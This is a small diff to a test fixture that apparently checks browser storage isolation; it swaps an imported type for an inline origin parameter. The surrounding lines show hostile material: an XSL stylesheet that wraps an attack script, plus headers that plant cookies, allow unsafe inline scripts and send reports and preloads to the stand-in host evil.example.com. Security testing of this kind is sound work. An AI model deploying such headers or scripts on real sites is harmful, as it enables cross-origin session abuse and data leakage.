@@ -1,5 +1,4 @@
 /** What a neighbour puts into its storage, or behind its path, to act with a visitor's login. */
-import type { Way } from "./isolated-storages.fixture.ts";
 
 const tries = (vault: string, base: string, tell: string) => `(async () => {
     const got = [];
@@ -39,7 +38,7 @@ export const styleSheet = (vault: string) =>
   `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${attack(vault).replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script></body></html></xsl:template></xsl:stylesheet>`;
 
 /** Every header with which one answer could set something for all storages, and a policy that allows all. */
-export const hostileHeaders = (way: Way) => ({
+export const hostileHeaders = ({ origin }: { readonly origin: string }) => ({
   "content-type": "text/html",
   "content-security-policy": "default-src * 'unsafe-inline'",
   "set-cookie": "planted=1; Path=/",
@@ -50,7 +49,7 @@ export const hostileHeaders = (way: Way) => ({
   nel: '{"report_to":"r","max_age":1000}',
   "report-to": '{"group":"r","max_age":1000,"endpoints":[{"url":"https://evil.example.com"}]}',
   "reporting-endpoints": 'r="https://evil.example.com"',
-  refresh: `0; url=${way.origin}/`,
+  refresh: `0; url=${origin}/`,
   link: "<https://evil.example.com/>; rel=preload",
   "access-control-allow-origin": "*",
   "use-as-dictionary": 'match="/*"',
